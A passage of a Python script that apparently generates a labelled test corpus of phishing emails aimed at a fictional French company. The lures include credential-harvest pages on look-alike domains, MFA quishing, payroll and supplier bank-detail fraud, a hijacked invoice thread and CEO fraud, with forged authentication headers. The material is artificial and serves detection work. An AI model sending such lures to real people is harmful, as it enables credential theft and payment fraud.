<p>Bonjour Morgane,</p>
<p>4 messages adress&eacute;s &agrave; <b>{rcpt}</b> ont &eacute;t&eacute; retenus par le filtre de s&eacute;curit&eacute; de Kerlann Industries et ne vous ont pas &eacute;t&eacute; remis.</p>
<table cellspacing="0" style="font-size:13px;width:100%"><tr style="background:#f3f2f1"><th align="left" style="padding:8px">Exp&eacute;diteur</th><th align="left" style="padding:8px">Objet</th><th></th></tr>
{trs}</table>
<p style="margin-top:20px"><a href="{base}&m=all" style="background:#0078d4;color:#fff;padding:9px 18px;text-decoration:none">Examiner les messages</a></p>
<p style="font-size:12px;color:#605e5c">Les messages non lib&eacute;r&eacute;s sous 3 jours seront supprim&eacute;s d&eacute;finitivement.<br>Service informatique - Kerlann Industries</p>
</div></body></html>
"""
    headers = "\n".join([
        "From: " + addr("Kerlann IT - Microsoft 365", "it-support@kerlann-industries.fr", quote=True),
        f"To: {rcpt}",
        subject("4 messages en attente de remise - action requise", "utf-8", "Q"),
        f"Date: {rfc(t)}",
        f"Message-ID: <{hx(stem + 'mid', 12)}.{hx(stem + 'mid2', 12)}@kerlann-industries.fr>",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "Fake Microsoft 365 quarantine digest spoofing it-support@kerlann-industries.fr, injected via Direct Send from an outside host (SPF fail, DMARC fail under p=none), with 'Libérer' links to an AiTM page on workers.dev.",
            t=t, helo="[172.245.88.16]", ip="172.245.88.16", spf="fail", mailfrom="kerlann-industries.fr",
            dkims=[("none", None)], from_dom="kerlann-industries.fr", dmarc="fail", compauth="fail", reason="001",
            headers=headers, body=Leaf("text/html", html.encode(), "quoted-printable", '; charset="utf-8"'),
            return_path="<it-support@kerlann-industries.fr>", tls="TLS1_2")


def a_bulletin_paie_lookalike() -> None:
    stem = "b51-phish-bulletin-paie-lookalike"
    t = paris("2026-01-29 17:38:06")
    rcpt = mail("affret")
    url = "https://kerlann-lndustries.fr/rh/bulletins/?session=" + hx(stem + "s", 24)
    html = f"""<html><head><meta charset="utf-8"></head><body style="font-family:Calibri,Arial,sans-serif;font-size:11pt;color:#222">
<p>Bonjour Kévin,</p>
<p>Votre bulletin de paie de <b>janvier 2026</b> est disponible dans votre espace salarié.</p>
<p>Suite au changement de prestataire de paie au 1<sup>er</sup> janvier, vous devez vous reconnecter une première fois avec vos identifiants Kerlann (Microsoft 365) pour activer votre coffre-fort numérique.</p>
<p><a href="{url}">Consulter mon bulletin de paie</a></p>
<p>Cordialement,</p>
<p><b>Service Paie</b><br>Kerlann Industries<br>ZI Sud-Est - 35000 Rennes</p>
</body></html>
"""
    plain = strip_tags(html)
    host = "mail.kerlann-lndustries.fr"
    headers = "\n".join([
        postfix_hop("[127.0.0.1] (localhost [127.0.0.1])", host, postfix_qid(stem), rcpt, t, esmtp="ESMTPSA", cipher=False),
        dkim("kerlann-lndustries.fr", "default", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem),
        "From: " + addr("Service Paie - Kerlann Industries", "paie@kerlann-lndustries.fr", quote=True),
        "To: " + to("affret"),
        subject("Votre bulletin de paie de janvier 2026 est disponible", "utf-8", "Q"),
        f"Date: {rfc(t)}",
        f"Message-ID: <{hx(stem + 'mid', 32)}@kerlann-lndustries.fr>",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "'Bulletin de paie disponible' notice from paie@kerlann-lndustries.fr (look-alike of the company's own domain, l for i) asking staff to log in with their Microsoft 365 credentials on that domain.",
            t=t, helo=host, ip="5.181.159.62", spf="pass", mailfrom="kerlann-lndustries.fr",
            dkims=[("pass", "kerlann-lndustries.fr")], from_dom="kerlann-lndustries.fr", dmarc="bestguesspass",
            compauth="pass", reason="109", headers=headers,
            body=alt(plain, html, f"=_{hx(stem + 'b', 28)}", "quoted-printable", "utf-8"),
            return_path="<paie@kerlann-lndustries.fr>")


def a_rib_salaire_rh() -> None:
    stem = "b51-phish-rib-salaire-rh"
    t = paris("2025-03-24 21:14:37")
    rcpt = mail("rh")
    lines = [
        "Bonsoir Gwenaëlle,",
        "",
        "J'ai changé de banque ce mois-ci (je suis passée chez une banque en ligne). Est-ce que tu pourrais mettre à jour"
        " mon RIB pour le virement du salaire de fin mars ?",
        "",
        "Dis-moi ce dont tu as besoin, je peux t'envoyer le nouveau RIB par retour de mail.",
        "",
        "Merci beaucoup et bonne soirée,",
        "Sandrine",
    ]
    hop, host, ip, sigs = gmail_parts(stem, t, rcpt, "sandrine.morvan.35@gmail.com")
    headers = "\n".join([
        hop, sigs,
        "MIME-Version: 1.0",
        "From: Sandrine Morvan <sandrine.morvan.35@gmail.com>",
        f"Date: {rfc(t)}",
        f"Message-ID: {gmail_msgid(stem)}",
        "Subject: Changement de RIB",
        f"To: {addr(*K['rh'], charset='UTF-8')}",
    ])
    deliver(stem, "phishing",
            "Payroll-diversion BEC: a gmail.com address using the name of an operations employee asks HR to change her salary bank account and offers to send the new RIB by reply.",
            t=t, helo=host, ip=ip, spf="pass", mailfrom="gmail.com", dkims=[("pass", "gmail.com")], from_dom="gmail.com",
            dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=alt("\n".join(lines) + "\n", gmail_html(lines), f"000000000000{hx(stem + 'b', 16)}", "quoted-printable", "UTF-8"),
            return_path="<sandrine.morvan.35@gmail.com>")


def a_mutuelle_beneficiaires() -> None:
    stem = "b51-phish-mutuelle-beneficiaires"
    t = paris("2026-03-10 09:12:44")
    rcpt = mail("import")
    url = "https://kerlann-industries-rh.fr/mutuelle/espace-salarie/?uid=" + hx(stem + "u", 20)
    html = f"""<html><head><meta charset="utf-8"></head>
<body style="font-family:Arial,sans-serif;font-size:14px;color:#222;max-width:620px">
<div style="border-bottom:3px solid #005a8c;padding-bottom:8px;margin-bottom:16px"><b style="color:#005a8c;font-size:18px">KERLANN INDUSTRIES</b> <span style="color:#777">| Ressources Humaines</span></div>
<p>Bonjour,</p>
<p>Dans le cadre du renouvellement du contrat de mutuelle d'entreprise au 1<sup>er</sup> avril 2026, chaque salari&eacute; doit <b>confirmer ses b&eacute;n&eacute;ficiaires</b> (conjoint, enfants) et t&eacute;l&eacute;charger sa nouvelle carte de tiers payant.</p>
<p>Sans confirmation avant le <b>20 mars</b>, seuls les salari&eacute;s seront couverts &agrave; compter du 1<sup>er</sup> avril.</p>
<p style="margin:22px 0"><a href="{url}" style="background:#005a8c;color:#fff;padding:10px 22px;text-decoration:none">Confirmer mes b&eacute;n&eacute;ficiaires</a></p>
<p>La connexion se fait avec votre adresse e-mail et votre mot de passe habituels.</p>
<p>Le service RH</p>
</body></html>
"""
    host = "mail.kerlann-industries-rh.fr"
    headers = "\n".join([
        postfix_hop("[127.0.0.1] (localhost [127.0.0.1])", host, postfix_qid(stem), rcpt, t, esmtp="ESMTPSA", cipher=False),
        dkim("kerlann-industries-rh.fr", "mail", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem),
        "From: " + addr("Kerlann Industries - RH", "rh@kerlann-industries-rh.fr", quote=True),
        f"To: {rcpt}",
        subject("Mutuelle d'entreprise 2026 : confirmation de vos bénéficiaires avant le 20/03", "utf-8", "Q"),
        f"Date: {rfc(t)}",
        f"Message-ID: <{hx(stem + 'mid', 32)}@kerlann-industries-rh.fr>",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "Company health-insurance ('mutuelle') renewal notice from the look-alike kerlann-industries-rh.fr asking employees to confirm beneficiaries by logging in with their usual e-mail password.",
            t=t, helo=host, ip="193.233.21.148", spf="pass", mailfrom="kerlann-industries-rh.fr",
            dkims=[("pass", "kerlann-industries-rh.fr")], from_dom="kerlann-industries-rh.fr", dmarc="bestguesspass",
            compauth="pass", reason="109", headers=headers,
            body=alt(strip_tags(html), html, f"=_{hx(stem + 'b', 28)}", "quoted-printable", "utf-8"),
            return_path="<rh@kerlann-industries-rh.fr>")


def qr_pdf(url: str, lines: list[str], title: str) -> bytes:
    import io
    import zlib

    from PIL import Image

    img = Image.open(io.BytesIO(files.qr_png(url))).convert("L")
    w, h = img.size
    raw = zlib.compress(img.tobytes(), 9)
    text_ops = ["BT", "/F1 12 Tf", "16 TL", "70 770 Td"]
    for line in lines:
        text_ops.append("(" + line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") + ") Tj T*")
    text_ops.append("ET")
    stream = ("\n".join(text_ops) + "\nq 190 0 0 190 202 330 cm /Im1 Do Q\n").encode("latin-1")
    objects = files.image_page(stream, raw, w, h, "FlateDecode")
    objects.append(f"<< /Title ({title}) /Producer (Microsoft: Print To PDF) /CreationDate (D:20260216081500+01'00') >>".encode())
    return files.pdf_file(objects, len(objects))


def a_mfa_qr_pdf() -> None:
    stem = "b51-phish-mfa-qr-pdf"
    t = paris("2026-02-16 08:21:30")
    rcpt = mail("douane")
    url = "https://login.kerlannindustries.fr/mfa/enroll?u=" + base64.b64encode(rcpt.encode()).decode()
    doc = qr_pdf(url, ["Kerlann Industries - Service informatique", "",
                       "Reenregistrement de l'authentification multifacteur (MFA)", "",
                       "Destinataire : loic.jaouen@kerlann-industries.fr", "Date limite : 20/02/2026", "",
                       "1. Ouvrez l'appareil photo de votre telephone professionnel.",
                       "2. Scannez le code QR ci-dessous.",
                       "3. Connectez-vous avec votre compte Microsoft 365 et validez la notification.", "",
                       "Sans reenregistrement, l'acces a la messagerie sera suspendu."], "MFA Kerlann")
    paras = [
        "Bonjour,",
        "",
        "Dans le cadre de la mise à jour de sécurité de Microsoft 365, tous les comptes doivent réenregistrer leur méthode MFA"
        " avant le 20/02/2026.",
        "La procédure (2 minutes) est décrite dans le document joint. Merci de scanner le QR code avec votre téléphone.",
        "",
        "Cordialement,",
        "Service informatique - Kerlann Industries",
    ]
    html = outlook_html(paras, charset="utf-8")
    server = "AM9PR07MB7390.eurprd07.prod.outlook.com"
    hop, helo, ip, sigs = m365_sender(stem, t, "kerlannindustries.fr", server, rcpt,
                                      sel="selector1-kerlannindustries-fr0i")
    sigs = sigs.replace("d=kerlannindustries.fr;", "d=kerlannindustries0.onmicrosoft.com;")
    body = Multi("mixed", f"_004_{server.split('.')[0]}{hx(stem + 'b', 20, True)}_", [
        Multi("alternative", f"_000_{server.split('.')[0]}{hx(stem + 'b', 20, True)}_", [
            text("\n".join(paras) + "\n", "plain", "quoted-printable", "utf-8"), text(html, "html", "quoted-printable", "utf-8")]),
        attachment("application/pdf", "Procedure_MFA_Kerlann.pdf", doc),
    ])
    headers = "\n".join([
        hop, sigs,
        "From: " + addr("Service informatique Kerlann", "helpdesk@kerlannindustries.fr"),
        f"To: {rcpt}",
        subject("Action requise : réenregistrement MFA avant le 20/02/2026", "utf-8", "Q"),
        "Thread-Topic: Action requise : reenregistrement MFA avant le 20/02/2026",
        "Thread-Index: " + thread_index(stem, t, 0),
        f"Date: {rfc(utc(t))}",
        f"Message-ID: {outlook_msgid(stem, server)}",
        "Accept-Language: fr-FR",
        "Content-Language: fr-FR",
        "X-MS-Has-Attach: yes",
        "X-MS-TNEF-Correlator:",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "Quishing: an 'MFA re-enrolment' request from helpdesk@kerlannindustries.fr (hyphen-less look-alike on an attacker M365 tenant) with a PDF whose only link is a QR code to a fake login.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom="kerlannindustries.fr",
            dkims=[("pass", "kerlannindustries0.onmicrosoft.com")], from_dom="kerlannindustries.fr", dmarc="none",
            compauth="pass", reason="109", headers=headers, body=body, attach=True,
            return_path="<helpdesk@kerlannindustries.fr>")


# ---------------------------------------------------------------- supplier bank details and invoice fraud


def zoho_parts(seed: str, dt: datetime, domain: str) -> tuple[str, str, str, str]:
    ip = f"136.143.169.{num(seed + 'z', 10, 60)}"
    helo = f"sender4-op-o{num(seed + 'z', 10, 60)}.zoho.eu"
    hop = fold(f"Received: by mx.zoho.eu with SMTPS id {num(seed + 'zid', 1700000000000000, 1799999999999999)}"
               f"{num(seed + 'zid2', 100000000, 999999999)}; {rfc(dt)}").replace("\n ", "\n\t")
    sig = dkim(domain, "zmail", dt, "Date:Date:From:From:To:To:Message-Id:Message-Id:Subject:Subject:MIME-Version:Content-Type:Reply-To",
               seed, q=True)
    arc = (f"ARC-Seal: i=1; a=rsa-sha256; t={int(dt.timestamp())}; cv=none;\n\td=zohomail.eu; s=zohoarc;\n\tb={chop(b64(seed + 'as', 256))}\n"
           f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=zohomail.eu; s=zohoarc;\n\tt={int(dt.timestamp())};"
           f" h=Content-Type:Date:Date:From:From:MIME-Version:Message-ID:Subject:Subject:To:To:Message-Id:Reply-To;\n\tbh={BH_RELAXED};\n"
           f"\tb={chop(b64(seed + 'am', 256))}\n"
           f"ARC-Authentication-Results: i=1; mx.zohomail.eu;\n\tdkim=pass  header.i={domain};\n\tspf=pass  smtp.mailfrom=compta@{domain};\n"
           f"\tdmarc=pass header.from=<compta@{domain}>")
    return hop, helo, ip, arc + "\n" + sig


def a_rib_fournisseur_lookalike() -> None:
    stem = "b51-phish-rib-fournisseur-lookalike"
    t = paris("2025-04-22 14:51:09")
    rcpt = mail("compta")
    rib = pdf_doc([
        "RELEVE D'IDENTITE BANCAIRE", "", "Titulaire du compte : PNEUS LEBRETON SAS", "ZA de Bellevue - 35235 Thorigne-Fouillard", "",
        "Domiciliation : QONTO - 18 rue de Navarin 75009 Paris", "", "Code banque  Code guichet  Numero de compte  Cle RIB",
        "16958        00001        73916428571       45", "", "IBAN : FR76 1695 8000 0173 9164 2857 145", "BIC : QNTOFRP1XXX",
    ], "RIB Pneus Lebreton")
    paras = [
        "Bonjour Monsieur Guillou,",
        "",
        "Nous vous informons qu'à la suite du changement de notre établissement bancaire, nos coordonnées bancaires ont été modifiées"
        " à compter de ce jour.",
        "Vous trouverez ci-joint notre nouveau RIB. Merci de bien vouloir mettre à jour votre fichier fournisseurs pour le règlement"
        " de nos factures F25-0412 et F25-0433 arrivant à échéance le 30/04.",
        "L'ancien compte Crédit Mutuel sera clôturé en fin de mois, merci de ne plus l'utiliser.",
        "",
        "Merci de nous confirmer la bonne prise en compte.",
        "",
        "Bien cordialement,",
        "",
        "Céline Durand",
        "Service comptabilité",
        "PNEUS LEBRETON SAS",
        "02 99 62 41 08",
    ]
    html = "<div style=\"font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;\">" + "".join(
        f"<div>{p if p else '<br>'}</div>" for p in paras) + "</div>\n"
    hop, helo, ip, sigs = zoho_parts(stem, t, "pneus-lebreton.com")
    body = Multi("mixed", f"----=_Part_{num(stem, 100000, 999999)}_{num(stem + 'b', 100000000, 999999999)}.{num(stem + 'c', 1700000000000, 1799999999999)}", [
        Multi("alternative", f"----=_Part_{num(stem + 'x', 100000, 999999)}_{num(stem + 'y', 100000000, 999999999)}.{num(stem + 'z', 1700000000000, 1799999999999)}", [
            text("\n".join(paras) + "\n", "plain", "quoted-printable", "UTF-8"), text(html, "html", "quoted-printable", "UTF-8")]),
        attachment("application/pdf", "RIB_PNEUS_LEBRETON_2025.pdf", rib),
    ])
    headers = "\n".join([
        hop, sigs,
        f"Date: {rfc(t)}",
        "From: " + addr("Pneus Lebreton - Comptabilité", "compta@pneus-lebreton.com", "UTF-8"),
        "Reply-To: compta@pneus-lebreton.com",
        "To: " + addr("Erwan Guillou", rcpt),
        f"Message-Id: <{num(stem + 'zm', 1900000000000, 1999999999999)}.{num(stem + 'zm2', 1000000000000000000, 9999999999999999999)}@zoho.eu>",
        subject("Changement de coordonnées bancaires - PNEUS LEBRETON", "UTF-8", "Q"),
        "MIME-Version: 1.0",
        "Importance: Medium",
        "User-Agent: Zoho Mail",
        "X-Mailer: Zoho Mail",
    ])
    deliver(stem, "phishing",
            "Supplier bank-detail change (new RIB PDF, 'ancien compte clôturé') from pneus-lebreton.com on Zoho Mail, a look-alike of the real tyre supplier pneus-lebreton.fr, aimed at paying April invoices to the fraudster.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom="pneus-lebreton.com", dkims=[("pass", "pneus-lebreton.com")],
            from_dom="pneus-lebreton.com", dmarc="pass", compauth="pass", reason="100", headers=headers, body=body,
            attach=True, return_path="<compta@pneus-lebreton.com>")


def a_thread_facture_armor() -> None:
    stem = "b51-phish-thread-facture-armor"
    t = paris("2025-05-27 16:33:52")
    rcpt = mail("compta")
    new = [
        "Bonjour Erwan,",
        "",
        "Merci pour votre retour.",
        "Suite à un contrôle de notre commissaire aux comptes, notre compte habituel au CIC est temporairement gelé jusqu'à la fin"
        " de l'audit. Pourriez-vous exceptionnellement effectuer le règlement de la facture FA-25-1187 (3 842,60 € TTC) sur notre"
        " compte secondaire :",
        "",
        "Titulaire : ARMOR TRANSIT SAS",
        "IBAN : FR76 1027 8360 5100 0204 7180 186",
        "BIC : CMCIFR2A",
        "",
        "Merci de me confirmer par retour de mail la date d'exécution du virement, nous devons le rapprocher au plus vite.",
        "",
        "Bien cordialement,",
    ]
    sig = ["<b>Patricia Le Roux</b>", "Comptabilité - Armor Transit", "Commissionnaire en douane agréé", "Terminal de Montoir - 44550 Montoir-de-Bretagne"]
    quoted = [
        ("De : Erwan Guillou <erwan.guillou@kerlann-industries.fr><br>Envoyé : lundi 26 mai 2025 10:12<br>À : Patricia Le Roux &lt;p.leroux@armor-transit.fr&gt;<br>"
         "Objet : RE: Facture FA-25-1187 - dédouanement import conteneur MSKU 8812473"),
        "Bonjour Patricia,<br><br>Bien reçu, la facture est validée par notre service import. Elle partira au prochain règlement fournisseurs.<br><br>Cordialement,<br>Erwan Guillou<br>Comptabilité fournisseurs - Kerlann Industries",
        ("De : Patricia Le Roux &lt;p.leroux@armor-transit.fr&gt;<br>Envoyé : vendredi 23 mai 2025 15:47<br>À : Erwan Guillou<br>"
         "Objet : Facture FA-25-1187 - dédouanement import conteneur MSKU 8812473"),
        "Bonjour,<br><br>Veuillez trouver ci-joint notre facture FA-25-1187 relative aux opérations de dédouanement du conteneur MSKU 8812473 (droits et TVA avancés, honoraires).<br><br>Bonne réception,<br>Patricia Le Roux",
    ]
    quote_html = ('<div><div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm"><p class="MsoNormal">'
                  f'<b>{quoted[0].split("<br>")[0]}</b><br>' + "<br>".join(quoted[0].split("<br>")[1:]) + '</p></div></div>'
                  f'<p class="MsoNormal">{quoted[1]}</p>'
                  '<div><div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm"><p class="MsoNormal">'
                  f'{quoted[2]}</p></div></div><p class="MsoNormal">{quoted[3]}</p>')
    html = outlook_html(new, sig, charset="utf-8", quote='<p class="MsoNormal"><o:p>&nbsp;</o:p></p>' + quote_html)
    plain = ("\n".join(new) + "\n\nPatricia Le Roux\nComptabilité - Armor Transit\n\n"
             + "\n\n".join(re.sub(r"<br>", "\n", q).replace("&lt;", "<").replace("&gt;", ">") for q in quoted) + "\n")
    server = "AS2PR08MB8744.eurprd08.prod.outlook.com"
    hop, helo, ip, sigs = m365_sender(stem, t, "armor-transit.fr", server, rcpt)
    headers = "\n".join([
        hop, sigs,
        "From: Patricia Le Roux <p.leroux@armor-transit.fr>",
        "To: Erwan Guillou <erwan.guillou@kerlann-industries.fr>",
        subject("RE: Facture FA-25-1187 - dédouanement import conteneur MSKU 8812473", "utf-8", "Q"),
        "Thread-Topic: " + ew("Facture FA-25-1187 - dédouanement import conteneur MSKU 8812473", "utf-8", "Q"),
        "Thread-Index: " + thread_index(stem, t, 2),
        f"Date: {rfc(utc(t))}",
        f"Message-ID: {outlook_msgid(stem, server)}",
        f"References: {outlook_msgid(stem + 'r1', server)}\n {outlook_msgid(stem + 'r2', 'PAXPR08MB6592.eurprd08.prod.outlook.com')}",
        f"In-Reply-To: {outlook_msgid(stem + 'r2', 'PAXPR08MB6592.eurprd08.prod.outlook.com')}",
        "Accept-Language: fr-FR, en-US",
        "Content-Language: fr-FR",
        "X-MS-Has-Attach:",
        "X-MS-TNEF-Correlator:",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "Invoice fraud inside a hijacked thread: a reply from the customs broker's real, compromised mailbox (armor-transit.fr on M365, all checks pass) asking to pay a validated invoice to a 'secondary account' because of an audit.",
            t=t, helo=helo, ip=ip, spf="pass", mailfrom="armor-transit.fr", dkims=[("pass", "armor-transit.fr")],
            from_dom="armor-transit.fr", dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=alt(plain, html, f"_000_{server.split('.')[0]}{hx(stem + 'b', 20, True)}_", "quoted-printable", "utf-8"),
            return_path="<p.leroux@armor-transit.fr>")


def a_nl_bankgegevens() -> None:
    stem = "b51-phish-nl-bankgegevens"
    t = paris("2025-07-29 10:44:18")
    rcpt = mail("compta")
    letter = pdf_doc([
        "Hoogeveen Logistics B.V.", "Industrieweg 14, 7903 AH Hoogeveen, Nederland", "KvK 04127733 - BTW NL8120.44.918.B01", "",
        "Betreft: Wijziging bankgegevens / Change of bank details", "", "Geachte relatie,", "",
        "Per 1 augustus 2025 wijzigen onze bankgegevens. Wij verzoeken u vriendelijk", "alle openstaande en toekomstige facturen over te maken naar:", "",
        "Rekeninghouder: Hoogeveen Logistics B.V.", "IBAN: NL42 BUNQ 2094 7715 63", "BIC: BUNQNL2A", "",
        "Met vriendelijke groet,", "M. Bakker - Financiele administratie",
    ], "Wijziging bankgegevens")
    plain = ("Geachte heer/mevrouw,\n\nHierbij informeren wij u dat onze bankgegevens per 1 augustus 2025 zijn gewijzigd. In de bijlage"
             " vindt u de officiële brief.\nWilt u de openstaande facturen HL-25-3381 en HL-25-3402 (totaal € 6.930,00) op het nieuwe"
             " rekeningnummer voldoen?\n\nDear Sir/Madam, please note our new bank details in the attached letter.\n\n"
             "Met vriendelijke groet / Kind regards,\n\nMarloes Bakker\nFinanciële administratie\nHoogeveen Logistics B.V.\n+31 528 27 14 90\n")
    body = Multi("mixed", f"------------{hx(stem, 24, True)[:24]}", [
        Leaf("text/plain", plain.encode(), "8bit", '; charset=UTF-8; format=flowed'),
        attachment("application/pdf", "Wijziging_bankgegevens_Hoogeveen_Logistics.pdf", letter),
    ])
    host = "smtp-out.hoogeveen-logistics.nl"
    headers = "\n".join([
        postfix_hop("[192.168.2.14] (84-105-211-77.cable.dynamic.v4.ziggo.nl [84.105.211.77])", "mail.hoogeveen-logistics.nl",
                    postfix_qid(stem), rcpt, t, esmtp="ESMTPSA"),
        dkim("hoogeveen-logistics.nl", "mail", t, "Date:From:To:Subject:From", stem),
        f"Message-ID: <{guid(stem + 'mid')}@hoogeveen-logistics.nl>",
        f"Date: {rfc(t)}",
        "MIME-Version: 1.0",
        "User-Agent: Mozilla Thunderbird",
        "Content-Language: nl",
        f"To: {rcpt}",
        "From: " + addr("Hoogeveen Logistics - Administratie", "administratie@hoogeveen-logistics.nl"),
        "Subject: Wijziging bankgegevens / change of bank details",
    ])
    deliver(stem, "phishing",
            "Dutch 'wijziging bankgegevens' letter asking to pay open invoices to a new bunq IBAN, from hoogeveen-logistics.nl, a hyphenated look-alike of the Dutch haulier partner hoogeveenlogistics.nl.",
            t=t, helo=host, ip="149.210.172.35", spf="pass", mailfrom="hoogeveen-logistics.nl",
            dkims=[("pass", "hoogeveen-logistics.nl")], from_dom="hoogeveen-logistics.nl", dmarc="bestguesspass",
            compauth="pass", reason="109", headers=headers, body=body, attach=True,
            return_path="<administratie@hoogeveen-logistics.nl>")


def gworkspace_parts(seed: str, dt: datetime, rcpt: str, domain: str) -> tuple[str, str, str, str]:
    hop, host, ip, sigs = gmail_parts(seed, dt, rcpt, domain)
    sigs = sigs.replace("d=gmail.com;\n\ts=20230601;", f"d={domain};\n\ts=google;")
    return hop, host, ip, sigs


def a_es_factura_cuenta() -> None:
    stem = "b51-phish-es-factura-cuenta"
    t = paris("2025-08-26 12:27:03")
    rcpt = mail("compta")
    lines = [
        "Buenos días,",
        "",
        "Les escribo en relación con la factura 2025/0741 (transporte Zaragoza - Rennes del 04/08, importe 2.480,00 €), que consta"
        " como pendiente de pago en nuestra contabilidad.",
        "",
        "Les informamos de que, por motivos de reorganización bancaria, nuestra cuenta en Ibercaja ya no está operativa. Por favor,"
        " realicen el pago a la nueva cuenta:",
        "",
        "Titular: Logística Ebro Norte S.L.",
        "IBAN: ES12 1583 0001 1990 4471 2266",
        "BIC: REVOESM2",
        "",
        "Les agradecería que me enviaran el justificante de la transferencia en cuanto la realicen.",
        "",
        "Un saludo,",
        "",
        "Lucía Navarro",
        "Administración - Logística Ebro Norte S.L.",
        "Pol. Ind. Malpica, calle E 21 - 50016 Zaragoza",
    ]
    hop, host, ip, sigs = gworkspace_parts(stem, t, rcpt, "logisticaebronorte.es")
    headers = "\n".join([
        hop, sigs,
        "MIME-Version: 1.0",
        "From: " + addr("Lucía Navarro", "administracion@logisticaebronorte.es", "UTF-8"),
        f"Date: {rfc(t)}",
        f"Message-ID: {gmail_msgid(stem)}",
        "Subject: Factura 2025/0741 pendiente - nuevos datos bancarios",
        f"To: {rcpt}",
    ])
    deliver(stem, "phishing",
            "Spanish 'factura pendiente, nueva cuenta bancaria' request from a Spanish haulier's real but compromised Google Workspace mailbox (logisticaebronorte.es, all checks pass), redirecting payment to a Revolut IBAN.",
            t=t, helo=host, ip=ip, spf="pass", mailfrom="logisticaebronorte.es", dkims=[("pass", "logisticaebronorte.es")],
            from_dom="logisticaebronorte.es", dmarc="pass", compauth="pass", reason="100", headers=headers,
            body=alt("\n".join(lines) + "\n", gmail_html(lines), f"000000000000{hx(stem + 'b', 16)}", "quoted-printable", "UTF-8"),
            return_path="<administracion@logisticaebronorte.es>")


def a_chorus_pro_lookalike() -> None:
    stem = "b51-phish-chorus-pro-lookalike"
    t = paris("2025-10-21 15:19:27")
    rcpt = mail("compta")
    url = "https://chorus-pro-gouv.fr/cpp/connexion?facture=FAC-2025-10-0877&structure=48213957400027"
    html = _gouv_html("Chorus Pro", [
        "Bonjour,",
        "Une facture d&eacute;pos&eacute;e par votre structure <b>KERLANN INDUSTRIES (SIRET 482 139 574 00027)</b> a &eacute;t&eacute; "
        "<b>rejet&eacute;e</b> par le destinataire <b>CENTRE HOSPITALIER UNIVERSITAIRE DE RENNES</b>.",
        "Num&eacute;ro de facture : FAC-2025-10-0877<br>Montant TTC : 12 604,80 &euro;<br>Motif : coordonn&eacute;es bancaires non conformes",
        "Afin d'&eacute;viter le blocage du paiement, merci de vous connecter &agrave; Chorus Pro pour mettre &agrave; jour les "
        "coordonn&eacute;es bancaires de votre structure et red&eacute;poser la facture.",
    ], ("Se connecter &agrave; Chorus Pro", url),
        "Ce message est envoy&eacute; automatiquement par la solution Chorus Pro. Merci de ne pas y r&eacute;pondre.",
        marianne="https://chorus-pro.gouv.fr/cpp/static/images/logo-marianne.png")
    host = "mail.chorus-pro-gouv.fr"
    headers = "\n".join([
        postfix_hop("[127.0.0.1] (localhost [127.0.0.1])", host, postfix_qid(stem), rcpt, t, esmtp="ESMTPSA", cipher=False),
        dkim("chorus-pro-gouv.fr", "default", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem),
        "From: Chorus Pro <no-reply@chorus-pro-gouv.fr>",
        f"To: {rcpt}",
        subject("[Chorus Pro] Rejet de la facture FAC-2025-10-0877", "utf-8", "Q"),
        f"Date: {rfc(t)}",
        f"Message-ID: <{hx(stem + 'mid', 32)}@chorus-pro-gouv.fr>",
        "MIME-Version: 1.0",
    ])
    deliver(stem, "phishing",
            "Fake Chorus Pro 'facture rejetée, coordonnées bancaires non conformes' notice from the look-alike chorus-pro-gouv.fr, leading to a fake Chorus Pro login that also collects bank details.",
            t=t, helo=host, ip="45.152.84.230", spf="pass", mailfrom="chorus-pro-gouv.fr",
            dkims=[("pass", "chorus-pro-gouv.fr")], from_dom="chorus-pro-gouv.fr", dmarc="bestguesspass",
            compauth="pass", reason="109", headers=headers,
            body=Leaf("text/html", html.encode(), "quoted-printable", '; charset="utf-8"'),
            return_path="<no-reply@chorus-pro-gouv.fr>")


# ---------------------------------------------------------------- CEO fraud


def a_president_acquisition() -> None:
    stem = "b51-phish-president-acquisition"
    t = paris("2025-12-09 11:48:15")
    rcpt = mail("daf")
    paras = [
        "Anne-Sophie,",
        "",
        "Je suis en réunion toute la journée avec nos conseils au sujet d'une opération de croissance externe (reprise d'un"
        " transporteur belge basé à Anvers). Le dossier est strictement confidentiel jusqu'à l'annonce officielle, l'AMF nous impose"
        " une discrétion totale : merci de n'en parler à personne en interne, y compris au comité de direction.",
        "",
        "Nous devons verser aujourd'hui un acompte de garantie au cédant. Maître Olivier Delorme, du cabinet qui nous accompagne,"
        " va te contacter dans l'heure pour te transmettre les coordonnées du compte séquestre et les justificatifs.",
        "",
        "Peux-tu me confirmer par retour de mail que tu es disponible et le montant que nous pouvons mobiliser aujourd'hui sur nos"
        " comptes ? Je ne suis pas joignable par téléphone pour le moment.",
        "",
        "Merci pour ta réactivité,",
        "Yannick",
    ]
    html = outlook_html(paras, ["Yannick Le Bihan", "Président Directeur Général", "Kerlann Industries"], charset="utf-8")
    server = "DU2P250MB0327.EURP250.PROD.OUTLOOK.COM"
    hop, helo, ip, sigs = m365_sender(stem, t, "kerlann-direction.fr", server, rcpt, sel="selector1-kerlanndirection-onmicrosoft-com")
    sigs = sigs.replace("d=kerlann-direction.fr;", "d=kerlanndirection.onmicrosoft.com;")
    headers = "\n".join([
        hop, sigs,
        "From: Yannick Le Bihan <yannick.lebihan@kerlann-direction.fr>",
        "To: " + addr(*K["daf"]),
        subject("Opération confidentielle", "utf-8", "Q"),
        "Thread-Topic: =?utf-8?Q?Op=C3=A9ration_confidentielle?=",
        "Thread-Index: " + thread_index(stem, t, 0),
        f"Date: {rfc(utc(t))}",
